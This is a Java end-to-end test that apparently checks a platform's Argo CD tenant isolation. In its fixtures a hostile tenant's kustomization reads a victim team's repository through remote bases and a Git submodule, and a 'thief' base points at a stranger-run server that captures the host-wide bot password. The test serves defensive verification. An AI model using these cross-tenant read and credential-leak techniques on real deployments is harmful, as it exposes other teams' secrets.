package io.platformtenant.e2e.platform;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.platformtenant.engines.real.EnginePart;
import io.platformtenant.engines.real.GitRepository;
import io.platformtenant.operator.kinds.ManagedKind;
import io.platformtenant.testkit.chart.ChartFolder;
import io.platformtenant.testkit.tenants.TenantYaml;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer.OrderAnnotation;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * What Argo CD's repo server does with a credential: it hands it to whatever a tenant's Git names,
 * and so reads there what the credential opens. docs/boundary.md says what to do.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(OrderAnnotation.class)
class PrivateBasesEngineIT extends PlatformStory {
  private static final String BOT = "platform-bot:of-the-whole-host";
  private static final String OWN = "team-bot:of-the-team";

  private final String team = corner.id() + "a";
  private final String mine = team + "-staging";
  private final String victim = corner.id() + "-victim";
  private final Askers stranger = Askers.start();
  private GitRepository secrets;
  private String victimCommit;

  @BeforeAll
  void aTeamNamesWhatIsNotItsOwn() {
    secrets = engines.git().create(victim);
    victimCommit = victimSays("first");
    git.push(
        deploy(team),
        Map.of(
            "base/kustomization.yaml", remote(git.url(victim) + "//secrets?ref=main"),
            "thief/kustomization.yaml", remote(stranger.url() + "/a.git//b?ref=main"),
            "inside/kustomization.yaml", remote(git.url(deploy(team)) + "//shared?ref=main"),
            "shared/kustomization.yaml", "resources: [own.yaml]",
            "shared/own.yaml", Landscape.configMap("own", "said: first")));
    engines.git().opensTo(victim, BOT);
    engines.git().opensTo(deploy(team), BOT, OWN);
    submodule("sub");
    admin.resource(forTheHost()).create();
    corner.apply(HostileTeam.CLASS);
    corner.apply(tenant("sub"));
  }

  /** A repository of the team's that takes the victim's in, with a folder that reads it. */
  private void submodule(String name) {
    GitRepository repository = engines.git().create(team + "-" + name);
    repository.commit(
        Map.of(
            name + "/kustomization.yaml",
            "configMapGenerator: [{name: loot-%s, files: [loot/secrets/loot.yaml]}]\ngeneratorOptions: {disableNameSuffixHash: true}"
                .formatted(name)));
    repository.submodule(name + "/loot", git.url(victim), victimCommit);
    engines.git().opensTo(team + "-" + name, BOT, OWN);
  }

  private static String remote(String base) {
    return "resources: [\"" + base + "\"]";
  }

  private String victimSays(String word) {
    return secrets.commit(
        Map.of(
            "secrets/kustomization.yaml",
            "resources: [loot.yaml]",
            "secrets/loot.yaml",
            Landscape.configMap("loot", "said: " + word)));
  }

  private TenantYaml tenant(String withSubmodule) {
    return HostileTeam.neighbour(team)
        .with(
            """
            delivery:
              gate: None
              applications: [%s, %s, %s, %s]
            """
                .formatted(
                    application("base", deploy(team)),
                    application("thief", deploy(team)),
                    application("inside", deploy(team)),
                    application(withSubmodule, team + "-" + withSubmodule)));
  }

  private String application(String name, String repository) {
    return "{name: %s, source: {repoURL: \"%s\", path: %s, targetRevision: main}}"
        .formatted(name, git.url(repository), name);
  }

  private Secret forTheHost() {
    return new SecretBuilder()
        .withNewMetadata()
        .withName(corner.id() + "-host")
        .withNamespace("argocd")
        .addToLabels("argocd.argoproj.io/secret-type", "repo-creds")
        .endMetadata()
        .addToStringData("type", "git")
        .addToStringData("url", prefix())
        .addToStringData("username", BOT.split(":", 2)[0])
        .addToStringData("password", BOT.split(":", 2)[1])
        .build();
  }

  /** All repositories of this story, and so of a host where nothing else is. */
  private String prefix() {
    return git.url(corner.id()).replaceAll("[.]git$", "");
  }

  /** The very manifest that the documents show. */
  private Secret ofTheTenant(String name, String repository) throws IOException {
    Path shown = ChartFolder.find().resolve("../../docs/argocd/repository-of-a-tenant.yaml");
    Secret secret = Serialization.unmarshal(Files.readString(shown), Secret.class);
    secret.getMetadata().setName(corner.id() + "-" + name);
    secret
        .getStringData()
        .putAll(
            Map.of(
                "url",
                git.url(repository),
                "project",
                team,
                "username",
                OWN.split(":", 2)[0],
                "password",
                OWN.split(":", 2)[1]));
    return secret;
  }

  @Test
  @Order(1)
  void oneCredentialForTheHostOpensTheNeighboursRepositoryAndIsGivenAway() {
    eventually("a remote base is read", () -> "first".equals(said("loot")));
    eventually("a submodule is read", () -> data("loot-sub") != null);
    eventually("a stranger gets the password", () -> stranger.heard().contains(BOT));
    eventually("what is the team's own is delivered", () -> "first".equals(said("own")));
  }

  /** A clone that was made before keeps what it had: the server begins with an empty disk. */
  @Test
  @Order(2)
  void withoutSubmodulesTheBaseIsStillRead() {
    engines.stop(EnginePart.REPO_SERVER);
    engines.start(EnginePart.REPO_SERVER, Map.of("ARGOCD_GIT_MODULES_ENABLED", "false"));
    victimSays("second");
    git.push(deploy(team), Map.of("base/any.txt", "1"));
    submodule("sub-off");
    corner.apply(tenant("sub-off"));

    eventually(
        "the submodule is empty",
        () -> failure("sub-off").contains("loot/secrets: no such file or directory"));
    eventually("a remote base is read", () -> "second".equals(said("loot")));
  }

  @Test
  @Order(3)
  void aCredentialOfTheTenantOpensNothingElse() throws IOException {
    admin.resource(forTheHost()).delete();
    admin.resource(ofTheTenant("deploy", deploy(team))).create();
    admin.resource(ofTheTenant("sub", team + "-sub-shut")).create();
    stranger.forget();
    victimSays("third");
    git.push(
        deploy(team),
        Map.of("base/any.txt", "2", "shared/own.yaml", Landscape.configMap("own", "said: third")));

    eventually("what is the team's own is delivered", () -> "third".equals(said("own")));
    eventually("the base is shut", () -> failure("base").contains("Authentication failed"));
    eventually("a stranger is asked with the own one", () -> stranger.heard().contains(OWN));
    // A render that began before the Secret went could still give the old one away.
    stranger.forget();
    git.push(deploy(team), Map.of("base/any.txt", "3"));
    eventually("a stranger is asked again", () -> stranger.heard().contains(OWN));
    assertThat(stranger.heard()).doesNotContain(BOT);
    assertThat(said("loot")).isEqualTo("second");
  }

  /** Without the switch as well: the credential alone keeps the neighbour's repository shut. */
  @Test
  @Order(4)
  void norToASubmodule() {
    engines.stop(EnginePart.REPO_SERVER);
    engines.start(EnginePart.REPO_SERVER);
    submodule("sub-shut");
    corner.apply(tenant("sub-shut"));

    eventually(
        "the submodule is shut",
        () -> failure("sub-shut").contains("Authentication failed for '" + git.url(victim)));
  }

  private Map<String, String> data(String configMap) {
    var there = admin.configMaps().inNamespace(mine).withName(configMap).get();
    return there == null ? null : there.getData();
  }

  private String said(String configMap) {
    var data = data(configMap);
    return data == null ? "" : data.get("said");
  }

  private String failure(String application) {
    return "" + status(ManagedKind.APPLICATION, "argocd", team + "-" + application + "-staging");
  }

  @AfterAll
  void theTeamGoes() {
    admin.secrets().inNamespace("argocd").list().getItems().stream()
        .filter(s -> s.getMetadata().getName().startsWith(corner.id()))
        .forEach(s -> admin.resource(s).delete());
    leave();
    stranger.close();
  }
}
